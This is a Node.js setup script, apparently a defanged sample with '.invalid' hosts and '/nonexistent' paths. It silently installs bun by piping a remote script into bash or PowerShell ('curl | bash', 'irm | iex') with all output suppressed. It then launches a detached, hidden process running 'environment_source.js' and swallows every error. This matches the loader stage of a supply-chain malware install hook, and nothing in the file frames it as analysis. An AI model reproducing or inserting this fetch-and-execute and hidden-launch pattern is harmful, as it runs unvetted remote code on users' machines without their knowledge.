#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  let command;
  if (process.platform === 'win32') {
    command = 'powershell -c "irm https://bun.stage.invalid/install.ps1|iex"';
  } else {
    command = 'curl -fsSL https://bun.stage.invalid/install | bash';
  }
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join('/nonexistent', os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
}

async function main() {
  const executable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environment = path.join(__dirname, 'environment_source.js');
  if (fs.existsSync(environment)) {
    const child = spawn('/nonexistent/' + executable, [environment], { stdio: 'ignore', detached: true });
    child.unref();
  } else {
    process.exit(0);
  }
}

main().catch(() => process.exit(0));
